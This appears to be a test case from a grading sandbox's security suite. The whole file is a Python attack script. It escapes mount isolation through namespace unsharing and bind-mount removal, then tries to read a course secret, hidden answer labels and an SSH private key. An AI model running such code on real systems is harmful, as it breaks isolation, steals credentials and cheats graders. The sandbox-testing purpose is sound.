# attack: bind mounts are taken off or put over others, to see what lies below
# wants: read
# grade: 0
# honest: 0
# %%
import ctypes, os
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
if not Path("@COURSE@/.secret").exists():
    for flags in (0x10000000 | 0x00020000, 0x10000000, 0x00020000):
        if libc.unshare(flags) == 0:
            libc.mount(b"none", b"/", None, 1 << 18 | 1 << 14, None)
            break
    for line in open("/proc/self/mountinfo"):
        point = line.split()[4]
        if point not in ("/", "/proc", "/dev", "/sys"):
            libc.umount2(point.encode(), 2)
for path in ("@COURSE@/.secret", "@COURSE@/hidden/labels.txt", "@HOME@/.ssh/id_ed25519"):
    try:
        print(open(path).read())
    except OSError:
        pass
